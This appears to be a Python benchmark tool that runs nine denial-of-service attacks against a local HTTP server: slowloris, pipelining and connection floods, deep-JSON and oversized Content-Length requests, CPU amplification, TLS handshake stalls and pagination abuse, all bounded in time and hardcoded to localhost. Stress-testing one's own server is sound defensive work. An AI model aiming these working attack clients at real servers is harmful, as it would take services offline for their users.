"""Hostile HTTP clients, one attack per process, for bench/hostile.py.

Usage: python attackers.py ATTACK PORT SECONDS [COUNT]

Each sends to 127.0.0.1 only (there is no host argument), stops after SECONDS or at
SIGTERM, closes every socket with a reset (no TIME_WAIT left behind), and prints two JSON
lines: {"ready": {...}} once at full strength, then {"done": {...}} with what it counted.
Attacks holding connections open one again whenever the server closes one, so they keep
their strength. Standard library only (asyncio).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
import resource
import signal
import socket
import ssl
import struct
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Any

HOST = "127.0.0.1"
HEALTH = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
POST = b"POST /app/token HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]
FAILURES = (OSError, TimeoutError, asyncio.IncompleteReadError, asyncio.LimitOverrunError)


def emit(kind: str, payload: dict[str, Any]) -> None:
    """One JSON line for the harness."""
    print(json.dumps({kind: payload}), flush=True)


async def connect(port: int, rcvbuf: int = 0) -> Stream:
    """A connection to the server (a small receive window from the start if `rcvbuf`)."""
    sock = socket.socket()
    try:
        sock.setblocking(False)
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        async with asyncio.timeout(3.0):  # not wait_for: in 3.11 it can swallow a cancel
            await asyncio.get_running_loop().sock_connect(sock, (HOST, port))
        return await asyncio.open_connection(sock=sock)
    except BaseException:
        sock.close()
        raise


def reset(writer: asyncio.StreamWriter) -> None:
    """Close with a reset: tens of thousands of TIME_WAIT sockets would outlive the run."""
    with contextlib.suppress(OSError):
        linger = struct.pack("ii", 1, 0)
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
    writer.transport.abort()


async def answer(reader: asyncio.StreamReader) -> tuple[str, bytes]:
    """One whole answer: its status code and its body."""
    head = await reader.readuntil(b"\r\n\r\n")
    length = re.search(rb"(?im)^content-length:\s*(\d+)", head)
    body = await reader.readexactly(int(length[1]) if length else 0)
    return head.split(b" ", 2)[1].decode("ascii", "replace"), body


async def content_length(port: int, counts: Counter[str], count: int) -> None:
    """(a) POST /app/token whose Content-Length is 4,301 zeros, then one of 5,000 digits
    (int() refuses over 4,300), every half second, each on a new connection."""
    for turn in range(1_000_000):
        for name, value in (("zeros-4301", b"0" * 4301), ("digits-5000", b"9" * 5000)):
            try:
                reader, writer = await connect(port)
                try:
                    writer.write(POST + b"Content-Length: " + value + b"\r\n\r\n")
                    async with asyncio.timeout(2.0):
                        counts[f"{name} {(await answer(reader))[0]}"] += 1
                finally:
                    reset(writer)
            except FAILURES as error:
                counts[f"{name} {type(error).__name__}"] += 1
        if turn == 0:
            emit("ready", dict(counts))
        await asyncio.sleep(0.5)


async def keep_asking(
    port: int,
    counts: Counter[str],
    clients: int,
    depth: int,
    first: bytes,
    then: Callable[[bytes], bytes],
) -> None:
    """`clients` keep-alive connections, each keeping `depth` requests in flight: `first`
    to begin with, and after each answer, `then(that answer's body)`."""

    async def client() -> None:
        while True:
            try:
                reader, writer = await connect(port)
            except FAILURES:
                counts["connect_failed"] += 1
                await asyncio.sleep(0.2)
                continue
            try:
                writer.write(first * depth)
                while True:
                    async with asyncio.timeout(10.0):
                        status, body = await answer(reader)
                    counts[status] += 1
                    counts["bytes_read"] += len(body)
                    writer.write(then(body))
            except FAILURES as error:
                counts[type(error).__name__] += 1
            finally:
                reset(writer)

    emit("ready", {"clients": clients, "depth": depth})
    await asyncio.gather(*(client() for _ in range(clients)))


async def deep_json(port: int, counts: Counter[str], count: int) -> None:
    """(b) POST /app/token with a body of 20,000 `[` (json.loads would recurse), `count`
    keep-alive clients (default 3) sending it again as soon as the answer arrives."""
    body = b"[" * 20_000
    request = POST + b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
    await keep_asking(port, counts, count or 3, 1, request, lambda _: request)


async def admin_list(port: int, counts: Counter[str], count: int) -> None:
    """(j) `count` connections (default 8), each with 4 pipelined GET /app/tokens for the
    biggest page the server allows (100,000 or its OpenAPI maximum); an answer's `next`,
    if any, is asked for next, and a walk that ends starts again from the first page."""
    reader, writer = await connect(port)
    try:
        writer.write(b"GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        listing = json.loads((await answer(reader))[1])["paths"]["/app/tokens"]["get"]
        given = [p["schema"] for p in listing.get("parameters", []) if p.get("name") == "limit"]
        limit = min([100_000] + [int(schema.get("maximum", 100_000)) for schema in given])
    finally:
        reset(writer)
    counts["limit"] = limit
    first = f"GET /app/tokens?limit={limit} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()

    def then(body: bytes) -> bytes:
        at = body.rfind(b'"next"')
        found = re.match(rb'"next":\s*"([^"]+)"', body[at:]) if at >= 0 else None
        if found is None:
            return first
        counts["pages_followed"] += 1
        after = found[1].decode()
        path = after if after.startswith("/") else f"/app/tokens?limit={limit}&after={after}"
        return f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()

    await keep_asking(port, counts, count or 8, 4, first, then)


async def flood(
    port: int, counts: Counter[str], clients: int, rcvbuf: int, read_every: float
) -> None:
    """`clients` connections pipelining GET /health as fast as the server takes them
    (up to 256 MiB each), reading the answers 64 KiB every `read_every` s, or never
    (`read_every` 0); reconnecting when the server hangs up."""
    chunk = HEALTH * 1000

    async def read_slowly(reader: asyncio.StreamReader) -> None:
        while data := await reader.read(65536):
            counts["bytes_read"] += len(data)
            await asyncio.sleep(read_every)

    async def client() -> None:
        sent = 0
        while True:
            try:
                reader, writer = await connect(port, rcvbuf)
            except FAILURES:
                counts["connect_failed"] += 1
                await asyncio.sleep(0.2)
                continue
            counts["connections"] += 1
            reading = asyncio.ensure_future(
                read_slowly(reader) if read_every else asyncio.sleep(1e9)
            )
            try:
                while sent < 256 * 1024 * 1024:
                    writer.write(chunk)
                    await writer.drain()
                    sent += len(chunk)
                    counts["bytes_sent"] += len(chunk)
                await reading  # past the cap: read what the server has still to answer
            except FAILURES:
                counts["closed_by_server"] += 1
            finally:
                reading.cancel()
                reset(writer)

    emit("ready", {"clients": clients})
    await asyncio.gather(*(client() for _ in range(clients)))


async def no_read(port: int, counts: Counter[str], count: int) -> None:
    """(d) `count` clients (default 5) with a 1 KiB receive buffer pipeline GET /health as
    fast as they can and never read an answer."""
    await flood(port, counts, count or 5, 1024, 0.0)


async def pipeline_flood(port: int, counts: Counter[str], count: int) -> None:
    """(e) `count` clients (default 2) pipeline far faster than the answers leave, reading
    64 KiB every 10 ms: slower than they send, fast enough that the server never waits to
    send (that is d). What a server reads ahead piles up in its memory."""
    await flood(port, counts, count or 2, 0, 0.01)


async def cpu_amplification(port: int, counts: Counter[str], count: int) -> None:
    """(f) `count` connections (default 20) send 62 KB of headers, then a 60,000-byte body
    4 bytes every 2 ms: a parser that re-reads the head on each arrival does ~62 KB of
    work per 4 bytes."""
    filler = b"".join(b"X-Filler-%04d: " % index + b"a" * 46 + b"\r\n" for index in range(1000))
    head = POST + b"Content-Length: 60000\r\n" + filler + b"\r\n"
    body = b'{"label": "' + b"a" * (60_000 - 13) + b'"}'
    writers: list[asyncio.StreamWriter] = []
    try:
        for _ in range(count or 20):
            try:
                writers.append((await connect(port))[1])
                writers[-1].write(head)
            except FAILURES:
                counts["connect_failed"] += 1
        emit("ready", {"connections": len(writers), "head_bytes": len(head)})
        offset = 0
        while True:
            for writer in writers:  # the answer of a finished request is left unread
                if not writer.is_closing():
                    writer.write(body[offset : offset + 4] if offset < len(body) else head)
            offset = offset + 4 if offset < len(body) else 0
            await asyncio.sleep(0.002)
    finally:
        for writer in writers:
            reset(writer)


async def hold(
    port: int, counts: Counter[str], count: int, first: Callable[[int], bytes], trickle: bytes = b""
) -> None:
    """Hold `count` connections, each sending `first(its index)`, then the next byte of
    `trickle` every 5 s; one the server answers or closes is opened again at once. At
    most 256 connects are in flight, so a server that stops accepting slows the reopening
    without stalling the connections held."""
    gate, opened, held = asyncio.Semaphore(256), asyncio.Event(), [0]

    async def one(index: int) -> None:
        while True:
            async with gate:
                try:
                    reader, writer = await connect(port)
                except FAILURES:
                    counts["failed_connects"] += 1
                    continue
            held[0] += 1
            if held[0] >= count:
                opened.set()
            try:
                writer.write(first(index))
                position = 0
                while True:
                    try:
                        async with asyncio.timeout(5.0 if trickle else None):
                            await reader.read(1)
                        break  # the server answered (an error, an alert) or closed it
                    except TimeoutError:
                        writer.write(trickle[position : position + 1] or trickle[-1:])
                        position += 1
                        counts["bytes"] += 1
                counts["closed_by_server"] += 1
            except FAILURES:
                counts["closed_by_server"] += 1
            finally:
                held[0] -= 1
                reset(writer)

    tasks = [asyncio.ensure_future(one(index)) for index in range(count)]
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(20.0):
            await opened.wait()
    emit("ready", {"held": held[0], **counts})
    await asyncio.gather(*tasks)


async def slowloris(port: int, counts: Counter[str], count: int) -> None:
    """(c) `count` connections each sending a request one byte every 5 s, never ending
    it: every byte is activity, so a timeout restarted by each read would never fire."""
    request = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 1000
    await hold(port, counts, count, lambda _: request[:1], request[1:])


async def connection_flood(port: int, counts: Counter[str], count: int) -> None:
    """(g) Hold `count` connections idle, sending nothing."""
    await hold(port, counts, count, lambda _: b"")


async def tls_stall(port: int, counts: Counter[str], count: int) -> None:
    """(h) `count` connections to an HTTPS server that never finish their handshake: every
    other one sends the first half of a real ClientHello, the rest nothing."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=HOST).do_handshake()
    hello = outgoing.read()
    half = hello[: len(hello) // 2]
    await hold(port, counts, count, lambda index: b"" if index % 2 else half)


ATTACKS: dict[str, Callable[[int, Counter[str], int], Awaitable[None]]] = {
    "content_length": content_length,
    "deep_json": deep_json,
    "slowloris": slowloris,
    "no_read": no_read,
    "pipeline_flood": pipeline_flood,
    "cpu_amplification": cpu_amplification,
    "connection_flood": connection_flood,
    "tls_stall": tls_stall,
    "admin_list": admin_list,
}


async def attack(name: str, port: int, seconds: float, count: int) -> Counter[str]:
    """Run one attack until SIGTERM or `seconds`; what it counted."""
    counts: Counter[str] = Counter()
    task = asyncio.ensure_future(ATTACKS[name](port, counts, count))
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    await asyncio.wait(
        [task, asyncio.ensure_future(stop.wait())], timeout=seconds, return_when="FIRST_COMPLETED"
    )
    while not task.done():  # again until it ends: a cancel may land where it is lost
        task.cancel()
        await asyncio.wait([task], timeout=1.0)
    if not task.cancelled() and task.exception() is not None:
        counts[f"attack failed: {task.exception()!r}"] = 1
    return counts


def main(argv: list[str]) -> int:
    """Run the attack named on the command line, bounded in time."""
    name, port, seconds = argv[0], int(argv[1]), float(argv[2])
    if not 0 < seconds <= 120:
        raise SystemExit("SECONDS must be in (0, 120]: every attack is bounded")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (65536 if hard < 0 else hard, hard))
    emit("done", dict(asyncio.run(attack(name, port, seconds, int(argv[3]) if argv[3:] else 0))))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
